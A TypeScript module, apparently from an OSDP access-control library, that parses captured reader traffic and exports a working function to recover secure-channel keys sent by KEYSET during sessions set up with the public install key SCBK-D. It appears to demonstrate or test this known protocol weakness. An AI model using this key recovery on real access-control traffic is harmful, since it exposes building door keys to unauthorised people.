import {
  clientCryptogram,
  CMD,
  computeMac,
  decryptData,
  initialRmac,
  SCBK_D,
  SCS,
  sameBytes,
  serverCryptogram,
  sessionKeys,
  type SessionKeys,
} from '@gatehouse/osdp';

/** A byte of a capture, or null where the capture withheld it (`xx`). */
type Known = (number | null)[];

interface LooseFrame {
  reply: boolean;
  address: number;
  scbType: number | null;
  scbData: Known;
  code: number | null;
  data: Known;
  /** SOM through the end of the data: what a MAC covers. */
  macRegion: Known;
}

const known = (bytes: Known): Uint8Array | null =>
  bytes.every((b) => b !== null) ? Uint8Array.from(bytes as number[]) : null;

/** Frames read the way an attacker would: no check verified, withheld bytes left unknown. */
const looseFrames = (bytes: Known): LooseFrame[] => {
  const frames: LooseFrame[] = [];
  let i = 0;
  while (i < bytes.length) {
    if (bytes[i] !== 0x53 || bytes[i + 1] == null || bytes[i + 2] == null || bytes[i + 4] == null) {
      i++;
      continue;
    }
    const length = bytes[i + 2]! | ((bytes[i + 3] ?? 0) << 8);
    const ctrl = bytes[i + 4]!;
    const end = i + length;
    if (length < 7 || end > bytes.length) {
      i++;
      continue;
    }
    let at = i + 5;
    let scbType: number | null = null;
    let scbData: Known = [];
    if (ctrl & 0x08) {
      const scbLength = bytes[at] ?? 2;
      scbType = bytes[at + 1] ?? null;
      scbData = bytes.slice(at + 2, at + scbLength);
      at += scbLength;
    }
    const macLength = scbType !== null && scbType >= SCS.CMD_MAC && scbType <= SCS.REPLY_MAC_ENC ? 4 : 0;
    const dataEnd = end - (ctrl & 0x04 ? 2 : 1) - macLength;
    frames.push({
      reply: ((bytes[i + 1] ?? 0) & 0x80) !== 0,
      address: (bytes[i + 1] ?? 0) & 0x7f,
      scbType,
      scbData,
      code: bytes[at] ?? null,
      data: bytes.slice(at + 1, dataEnd),
      macRegion: bytes.slice(i, dataEnd),
    });
    i = end;
  }
  return frames;
};

/** Capture text (`<time> <direction> <hex>` lines) as its frames in order, rx chunks joined between commands. */
const captureFrames = (capture: string): LooseFrame[] => {
  const frames: LooseFrame[] = [];
  let rx: Known = [];
  const toBytes = (hex: string): Known =>
    Array.from({ length: hex.length / 2 }, (_, i) => {
      const pair = hex.slice(i * 2, i * 2 + 2);
      return pair === 'xx' ? null : parseInt(pair, 16);
    });
  for (const line of capture.split('\n')) {
    const [, direction, data] = line.trim().split(/\s+/);
    if (direction === 'rx' && data) rx.push(...toBytes(data));
    if (direction !== 'tx' || !data) continue;
    frames.push(...looseFrames(rx));
    rx = [];
    frames.push(...looseFrames(toBytes(data)));
  }
  frames.push(...looseFrames(rx));
  return frames;
};

/**
 * What anyone holding a capture could do with it: follow every handshake made
 * with the public install key SCBK-D (CHLNG's random gives the session keys,
 * CCRYPT or RMAC_I the start of the MAC chain), then decrypt what travels in
 * that session, KEYSET above all. Returns the keys it recovers, in hex.
 */
export const recoverKeysFromCapture = (capture: string): string[] => {
  const found: string[] = [];
  const sessions = new Map<
    number,
    { keys: SessionKeys; rndA: Uint8Array; rmac: Uint8Array | null; cmac: Uint8Array | null }
  >();
  for (const f of captureFrames(capture)) {
    const s = sessions.get(f.address);
    if (!f.reply && f.scbType === SCS.CHLNG) {
      const rndA = known(f.data);
      if (f.scbData[0] === 0 && rndA?.length === 8)
        sessions.set(f.address, { keys: sessionKeys(SCBK_D, rndA), rndA, rmac: null, cmac: null });
      else sessions.delete(f.address);
      continue;
    }
    if (!s) continue;
    const region = known(f.macRegion);
    if (f.reply && f.scbType === SCS.CCRYPT) {
      const d = known(f.data);
      if (
        !d ||
        d.length < 32 ||
        !sameBytes(clientCryptogram(s.keys, s.rndA, d.subarray(8, 16)), d.subarray(16, 32))
      )
        continue;
      s.rmac = s.cmac = initialRmac(s.keys, serverCryptogram(s.keys, s.rndA, d.subarray(8, 16)));
    } else if (f.reply && f.scbType === SCS.RMAC_I) {
      const d = known(f.data);
      if (d?.length === 16) s.rmac = s.cmac = d;
    } else if (!f.reply && (f.scbType === SCS.CMD_MAC || f.scbType === SCS.CMD_MAC_ENC) && s.rmac) {
      const data = known(f.data);
      if (f.scbType === SCS.CMD_MAC_ENC && data) {
        const plain = decryptData(s.keys, s.rmac, data);
        if (f.code === CMD.KEYSET && plain && plain[0] === 1 && plain[1] === 16)
          found.push(Buffer.from(plain.subarray(2, 18)).toString('hex'));
      }
      s.cmac = region ? computeMac(s.keys, s.rmac, region) : null;
    } else if (f.reply && (f.scbType === SCS.REPLY_MAC || f.scbType === SCS.REPLY_MAC_ENC) && s.cmac) {
      s.rmac = region ? computeMac(s.keys, s.cmac, region) : null;
    }
  }
  return found;
};
